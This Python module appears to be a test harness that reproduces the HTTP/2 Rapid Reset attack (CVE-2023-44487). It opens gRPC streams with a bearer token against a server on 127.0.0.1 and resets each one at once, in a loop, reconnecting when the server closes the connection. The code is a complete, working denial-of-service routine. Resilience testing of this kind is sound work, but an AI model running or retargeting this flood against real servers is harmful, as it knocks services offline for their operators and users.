"""A client that opens streams and resets them at once, as fast as it can (CVE-2023-44487)."""

import asyncio
import time
from contextlib import suppress

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes

_AT_A_TIME = 100


async def reset_streams(port: int, path: str, bearer: str, seconds: float) -> int:
    """How many streams were opened and reset; a connection that is closed is opened again."""
    until, sent = time.monotonic() + seconds, 0
    while time.monotonic() < until:
        with suppress(ConnectionError):
            sent += await _on_a_connection(port, _head(path, bearer), until)
    return sent


def _head(path: str, bearer: str) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", "a"),
        (":path", path),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
        ("authorization", f"Bearer {bearer}"),
    ]


async def _on_a_connection(port: int, head: list[tuple[str, str]], until: float) -> int:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    link, sent = H2Connection(H2Configuration(client_side=True)), 0
    link.initiate_connection()
    swallowing = asyncio.create_task(_swallow(reader))
    try:
        while time.monotonic() < until and not swallowing.done():
            for _ in range(_AT_A_TIME):
                stream = link.get_next_available_stream_id()
                link.send_headers(stream, head)
                link.reset_stream(stream, ErrorCodes.CANCEL)
            writer.write(link.data_to_send())
            await writer.drain()
            sent += _AT_A_TIME
            await asyncio.sleep(0)
    finally:
        swallowing.cancel()
        writer.close()
    return sent


async def _swallow(reader: asyncio.StreamReader) -> None:
    """Reads what the server says, until it hangs up."""
    while await reader.read(65_536):
        pass
